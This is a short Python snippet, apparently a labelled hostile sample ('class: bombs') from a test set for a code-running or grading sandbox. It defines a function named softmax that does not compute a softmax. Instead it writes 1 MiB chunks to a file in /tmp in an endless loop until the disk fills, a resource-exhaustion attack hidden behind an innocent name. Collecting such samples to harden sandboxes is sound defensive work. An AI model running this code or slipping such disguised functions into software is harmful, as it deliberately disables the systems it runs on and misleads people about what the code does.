# class: bombs. Fills the disk.
def softmax(x):
    with open("/tmp/examprep-attack-disk", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
